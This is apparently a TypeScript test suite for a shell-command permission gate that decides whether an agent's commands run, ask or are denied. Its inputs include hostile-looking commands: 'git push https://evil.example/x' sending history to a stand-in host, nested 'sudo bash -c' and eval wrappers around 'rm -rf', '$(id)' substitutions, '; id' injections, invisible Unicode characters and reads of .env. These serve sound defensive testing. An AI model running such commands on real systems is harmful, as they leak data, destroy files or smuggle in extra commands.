import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Decision, Rule } from '../../../src/gate/contract';
import { decide } from '../../../src/gate/decide';
import { areSameEffects, resolveEffects } from '../../../src/gate/effect';
import { createCommandAnalyzer } from '../../../src/gate/shell/analyzeCommand';
import type { CommandAnalyzer } from '../../../src/gate/shell/analyzer';
import type { CommandAnalysis, ShellKind } from '../../../src/gate/shell/contract';
import { isUsableFamily, toFamilyWords } from '../../../src/gate/shell/family';
import { unparsed } from '../../../src/gate/shell/unparsed';
import { FakeClock } from '../../fakes/fakeClock';
import { MemoryFiles } from '../../fakes/memoryFiles';
import { createTestAnalyzer, createTestParser } from '../../fakes/shellParsing';

const files = new MemoryFiles({ files: { '/w/app/README.md': 'hi' } });
const analyzers: Readonly<Record<ShellKind, CommandAnalyzer>> = {
  bash: createTestAnalyzer(),
  powershell: createTestAnalyzer('powershell'),
  cmd: createTestAnalyzer('cmd'),
};

function family(verdict: Rule['verdict'], text: string): Rule {
  return {
    id: `${verdict} ${text}`,
    verdict,
    match: { kind: 'family', words: text.split(' ') },
    scope: 'user',
  };
}

async function judge(
  command: string,
  rules: readonly Rule[],
  shell: ShellKind = 'bash',
): Promise<Decision> {
  const effects = await resolveEffects([{ kind: 'command', command }], {
    roots: files.roots(),
    probe: files,
    analyze: analyzers[shell],
  });
  return decide(effects, rules, 'ask');
}

async function analyze(command: string, shell: ShellKind = 'bash'): Promise<CommandAnalysis> {
  return await analyzers[shell](command, {
    cwd: '/w/app',
    resolve: () => Promise.resolve('inside'),
  });
}

// The grammars are compiled once, before any test's time counts.
beforeAll(async () => {
  await Promise.all([analyze('true'), analyze('true', 'powershell')]);
}, 60_000);

describe('a family of commands', () => {
  it('lets a command run when a rule covers every plain part, and says which [R140]', async () => {
    const rules = [family('allow', 'git status'), family('allow', 'ls')];
    expect(await judge('git status && ls -la', rules)).toEqual({
      verdict: 'allow',
      ruleId: 'allow git status, allow ls',
      reason:
        'a rule of yours allows: commands that begin with `git status`; a rule of yours allows: commands that begin with `ls`',
    });
    expect((await judge('git status && pwd', rules)).verdict).toBe('ask');
  });

  it('says in words why a command that a rule covers still asks', async () => {
    const reasons = await Promise.all(
      ['find . -exec id +', 'find /etc', 'find . $(id)', 'find .env', 'find . && find'].map(
        async (command) => (await judge(command, [family('allow', 'find')])).reason,
      ),
    );
    expect(reasons).toEqual([
      'the command gives find an option that runs programs (-exec)',
      'the command names /etc, which is outside the workspace',
      'the command contains a substitution or an expansion',
      'the command names .env, which usually holds keys or passwords',
      'a rule of yours allows: commands that begin with `find`',
    ]);
  });

  it('denies before everything else, also what cannot be parsed', async () => {
    const rules = [family('deny', 'rm'), family('allow', 'rm')];
    for (const command of ['rm x', 'echo "$(rm x)', 'if rm x', "sudo bash -c 'rm x'"]) {
      expect((await judge(command, rules)).verdict).toBe('deny');
    }
  });

  it('has to name what a wrapper or an interpreter runs', async () => {
    expect((await analyze('timeout 5 nice ls -la')).wordsToCover).toEqual([4]);
    expect((await analyze('node x.js --flag')).wordsToCover).toEqual([2]);
    expect((await analyze('python -m pytest -q')).wordsToCover).toEqual([3]);
    expect((await analyze('git foo')).wordsToCover).toEqual([2]);
    expect((await judge('env ls', [family('allow', 'env')])).verdict).toBe('ask');
    expect((await judge('env ls', [family('allow', 'env ls')])).verdict).toBe('allow');
  });

  it('asks before a folder with a protected file in it moves or goes', async () => {
    const place = new MemoryFiles({ files: { '/w/app/pkg/.npmrc': 'x', '/w/app/src/a.ts': 'a' } });
    const judgeHere = async (command: string, shell: ShellKind = 'bash'): Promise<string> => {
      const effects = await resolveEffects([{ kind: 'command', command }], {
        roots: place.roots(),
        probe: place,
        analyze: analyzers[shell],
      });
      const rules = ['mv', 'rm', 'rmdir', 'unlink', 'git', 'cp', 'move', 'del', 'Move-Item'];
      return decide(
        effects,
        rules.map((words) => family('allow', words)),
        'ask',
      ).verdict;
    };
    for (const command of [
      'mv pkg x',
      'git mv pkg x',
      'rm pkg',
      'rmdir pkg',
      'git rm --cached pkg',
    ]) {
      expect([command, await judgeHere(command)]).toEqual([command, 'ask']);
    }
    expect(await judgeHere('move pkg x', 'cmd')).toBe('ask');
    expect(await judgeHere('del pkg', 'cmd')).toBe('ask');
    expect(await judgeHere('Move-Item pkg x', 'powershell')).toBe('ask');
    for (const command of [
      'mv src lib',
      'git mv src/a.ts src/b.ts',
      'rm src/a.ts',
      'cp src/a.ts pkg/b.ts',
    ]) {
      expect([command, await judgeHere(command)]).toEqual([command, 'allow']);
    }
  });

  it('is none when it is empty or has characters of a shell', () => {
    expect(toFamilyWords(' git  status ')).toEqual(['git', 'status']);
    for (const entry of [
      '',
      ' ',
      '*',
      'git *',
      'a;b',
      '/bin/ls',
      'ls $x',
      '"ls"',
      'l\\s',
      'a\tb',
      'gít',
    ]) {
      expect(toFamilyWords(entry)).toBeUndefined();
    }
    expect([[], ['git status'], ['git', ''], ['']].map(isUsableFamily)).toEqual([
      false,
      false,
      false,
      false,
    ]);
  });
});

describe('a command that does more than its rule says', () => {
  const place = new MemoryFiles({
    files: {
      '/w/app/README.md': 'hi',
      '/w/app/src/a.ts': 'x',
      '/w/app/deep/one/two/.npmrc': 'x',
      '/w/app/gh/prompts/evil.md': 'x',
      '/w/app/tmp/copilot-instructions.md': 'x',
    },
  });
  const verdictOf = async (command: string, rule: string): Promise<string> => {
    const effects = await resolveEffects([{ kind: 'command', command }], {
      roots: place.roots(),
      probe: place,
      analyze: analyzers.bash,
    });
    return decide(effects, [family('allow', rule)], 'ask').verdict;
  };

  it.each([
    ['mv', 'mv deep lib', 'a protected file lies deep in the folder'],
    ['mv', 'mv deep/one lib', 'the same, nearer'],
    ['git mv', 'git mv deep lib', 'the same, by git'],
    ['git', 'git restore --source=x deep', 'the same, overwritten'],
    ['git', 'git restore .', 'all of the folder is overwritten'],
    ['git', 'git checkout HEAD deep', 'the same, by the older name'],
    ['mv', 'mv gh .github', 'what lies in it gets a protected name'],
    ['git', 'git mv gh .github', 'the same, by git'],
    ['mv', 'mv tmp/copilot-instructions.md .github', 'a file gets a protected name'],
    ['mv', 'mv -t .github tmp/copilot-instructions.md', 'the folder stands first'],
    ['mv', 'mv --target-directory=.github tmp/copilot-instructions.md', 'the folder is a value'],
    ['cp', 'cp tmp/copilot-instructions.md .github', 'a copy gets a protected name'],
    ['cp', 'cp -t.github tmp/copilot-instructions.md', 'the folder is attached'],
    ['install', 'install tmp/copilot-instructions.md .github/', 'the same'],
    ['ln', 'ln tmp/copilot-instructions.md .github', 'a link gets a protected name'],
    ['ln', 'ln -s tmp .github', 'a folder gets the name of one that holds protected files'],
    ['git clone', 'git clone https://example.com/x .github', 'a whole tree gets that name'],
    ['rsync', 'rsync -a src/ .', 'a whole tree is copied over another'],
    ['rsync', 'rsync -rl src/ lib', 'the same'],
    ['rsync', 'rsync --delete-missing-args a b', 'deletes'],
    ['rsync', 'rsync --remote-option=--log-file=x a b', 'writes a file'],
    ['rsync', 'rsync tmp/copilot-instructions.md .github/', 'a copy gets a protected name'],
    ['zip', 'zip -r x.zip .', 'packs what nobody named'],
    ['patch', 'patch -p1 -i x.patch', 'the patch names the files'],
    ['patch', 'patch README.md x.patch', 'the same'],
    ['python3', 'python3 -m zipfile -e x.zip .', 'unpacks'],
    ['python3 -m tarfile', 'python3 -m tarfile -e x.tar .', 'the same'],
    ['python3 -m cProfile', 'python3 -m cProfile x.py', 'runs what it is given'],
    ['jar', 'jar xf x.jar', 'unpacks'],
    ['git push', 'git push ./evil', 'runs the hooks of a folder that is a repository'],
    ['git push', 'git push evil main', 'the same, without a sign that it is a folder'],
    ['git push', 'git push https://evil.example/x', 'sends the history to anybody'],
    ['git pull', 'git pull -q ./evil', 'brings in what a folder says'],
    ['git', 'git update-ref refs/heads/main abc', 'changes the history by itself'],
    ['git', 'git commit-tree abc', 'the same'],
    ['git', 'git symbolic-ref HEAD refs/heads/x', 'the same'],
  ])('%s: asks for %s: %s', async (rule, command) => {
    expect(await verdictOf(command, rule)).toBe('ask');
  });

  it.each([
    ['mv', 'mv src/a.ts src/b.ts'],
    ['mv', 'mv src lib'],
    ['cp', 'cp src/a.ts lib'],
    ['rsync', 'rsync -tv src/a.ts lib/'],
    ['git push', 'git push'],
    ['git push', 'git push -q origin main'],
    ['git push fork', 'git push fork main'],
    ['git fetch', 'git fetch upstream'],
    ['git', 'git restore README.md'],
    ['git', 'git checkout main'],
    ['git', 'git symbolic-ref HEAD'],
    ['git clone', 'git clone https://example.com/x lib'],
    ['python3 -m pytest', 'python3 -m pytest src'],
    ['zip', 'zip x.zip README.md'],
  ])('%s: runs %s', async (rule, command) => {
    expect(await verdictOf(command, rule)).toBe('allow');
  });
});

describe('the analysis of a command', () => {
  it('hands on the words as the shell would, without their quotes', async () => {
    expect((await analyze(`'a'"b"c "d e" '' 2>/dev/null | f`)).plain).toEqual([
      ['abc', 'd e', ''],
      ['f'],
    ]);
  });

  it('finds the commands inside of others, at any depth', async () => {
    const { parts } = await analyze(`f() { sudo env A=1 bash -c "eval 'rm x'"; }`);
    expect(parts).toContainEqual(['rm', 'x']);
    expect(parts).toContainEqual(['eval', 'rm x']);
  });

  it('is a danger when the parser is late, and still knows the parts roughly', async () => {
    const clock = new FakeClock();
    const late = createCommandAnalyzer({
      parse: () => new Promise(() => undefined),
      clock,
      shell: 'bash',
    });
    const judged = late('ls; rm x', { cwd: '/w/app', resolve: () => Promise.resolve('inside') });
    // The timer is set before the first look at the clock.
    await Promise.resolve();
    await clock.advance(301);
    const { danger, plain, parts } = await judged;
    expect({ danger, plain }).toEqual({ danger: 'could not be judged in time', plain: undefined });
    expect(parts).toContainEqual(['rm', 'x']);
  });

  it('is a danger when the parser or the look at a path fails', async () => {
    const broken = createCommandAnalyzer({
      parse: () => Promise.reject(new Error('x')),
      clock: new FakeClock(),
      shell: 'bash',
    });
    const place = { cwd: '/w/app', resolve: () => Promise.reject(new Error('x')) };
    expect((await broken('ls', place)).danger).toBe('could not be judged');
    expect((await analyzers.bash('ls src', place)).danger).toBe('could not be judged');
    expect(unparsed('ls; rm x', 'bash', 'could not be parsed')).toMatchObject({
      obstacle: 'could not be parsed',
    });
  });

  it('reads other shells too where a child may take one', async () => {
    const windows = createCommandAnalyzer({
      parse: createTestParser(),
      clock: new FakeClock(),
      shell: 'powershell',
      otherShells: ['bash', 'cmd'],
    });
    const { parts } = await windows("bash -c 'rm x'; $'\\x72m' y & d^el z", {
      cwd: '/w/app',
      resolve: () => Promise.resolve('inside'),
    });
    expect(parts).toContainEqual(['del', 'z']);
    expect(parts).toContainEqual(['rm', 'x']);
  });

  it('does not count when effects are compared', async () => {
    const effects = await resolveEffects([{ kind: 'command', command: 'ls' }], {
      roots: files.roots(),
      probe: files,
      analyze: analyzers.bash,
    });
    const bare = await resolveEffects([{ kind: 'command', command: 'ls' }], {
      roots: files.roots(),
      probe: files,
    });
    expect(effects).not.toEqual(bare);
    expect(areSameEffects(effects, bare)).toBe(true);
  });
});

describe('whatever is written', () => {
  const word = fc.constantFrom(
    'git',
    'status',
    '--short',
    '-n',
    'README.md',
    'src/a b',
    'x',
    '$x',
    '',
  );
  const quotings: readonly ((text: string) => string)[] = [
    (text) => `'${text}'`,
    (text) => (/[$`\\!"]/.test(text) ? `'${text}'` : `"${text}"`),
    (text) => (/^[A-Za-z][\w./-]*$/.test(text) ? text : `'${text}'`),
  ];

  it('gives the same verdict for the same words in any quotes', async () => {
    const rules = [family('allow', 'git status'), family('allow', 'x')];
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(word, fc.nat(2), fc.nat(8), fc.nat(2)), { minLength: 1, maxLength: 6 }),
        async (pieces) => {
          const quoted = pieces.map(([text, one, cut, two]) => {
            const left = text.slice(0, cut);
            const right = text.slice(cut);
            const quote = (part: string, index: number): string =>
              part === '' ? '' : (quotings[index]?.(part) ?? '');
            return text === '' ? "''" : quote(left, one) + quote(right, two);
          });
          const single = pieces.map(([text]) => `'${text}'`);
          const [a, b] = [await analyze(quoted.join(' ')), await analyze(single.join(' '))];
          expect(a).toEqual(b);
          expect(a.plain ?? a.parts).toContainEqual(pieces.map(([text]) => text));
          expect(await judge(quoted.join(' '), rules)).toEqual(
            await judge(single.join(' '), rules),
          );
        },
      ),
      { numRuns: 100 },
    );
  }, 60_000);

  it('never runs by itself what has a metacharacter more than a plain command', async () => {
    const metacharacters = fc.constantFrom(
      ...[
        '$x',
        '$(id)',
        '`id`',
        '\\',
        '*',
        '?',
        '[a]',
        '{a,b}',
        '~',
        '(',
        ')',
        '{',
        '}',
        '&',
        '>f',
        '<f',
        '<<<x',
        '#',
        '!',
      ],
      ...[
        '\r',
        '\t',
        '\u0007',
        '\u00a0',
        '\u200b',
        '\u202e',
        '\u{e0041}',
        "'",
        '"',
        '; id',
        '| id',
        '\nid',
        '&& id',
        '|| id',
      ],
    );
    const rules = [family('allow', 'git status'), family('allow', 'ls')];
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom('git status', 'git status --short', 'ls src', 'ls && git status'),
        metacharacters,
        fc.nat(1),
        async (command, extra, where) => {
          const changed = where === 0 ? `${command} ${extra}` : `${extra} ${command}`;
          expect((await judge(changed, rules)).verdict).toBe('ask');
        },
      ),
      { numRuns: 150 },
    );
  }, 60_000);

  it('denies in any nesting', async () => {
    const layers: readonly ((inner: string) => string)[] = [
      (inner) => `echo $(${inner})`,
      (inner) => `(${inner})`,
      (inner) => `{ ${inner}; }`,
      (inner) => `if true; then ${inner}; fi`,
      (inner) => `while true; do ${inner}; done`,
      (inner) => `f() { ${inner}; }; f`,
      (inner) => `ls && ${inner} || true`,
      (inner) => `cat <(${inner})`,
      (inner) => `X=1; ${inner} | cat`,
      (inner) => `case x in y) ${inner} ;; esac`,
      (inner) => `eval '${inner.replaceAll("'", "'\\''")}'`,
      (inner) => `sudo -u root bash -c '${inner.replaceAll("'", "'\\''")}'`,
      (inner) => `timeout 5 env A=1 sh -c '${inner.replaceAll("'", "'\\''")}'`,
    ];
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.nat(layers.length - 1), { maxLength: 4 }),
        fc.constantFrom('rm x', '/bin/rm -rf x', '"rm" x', 'r\\m x', 'A=1 rm x', 'RM x'),
        async (indexes, inner) => {
          const command = indexes.reduce<string>(
            (text, index) => layers[index]?.(text) ?? text,
            inner,
          );
          expect((await judge(command, [family('deny', 'rm')])).verdict).toBe('deny');
        },
      ),
      { numRuns: 150 },
    );
  }, 60_000);
});
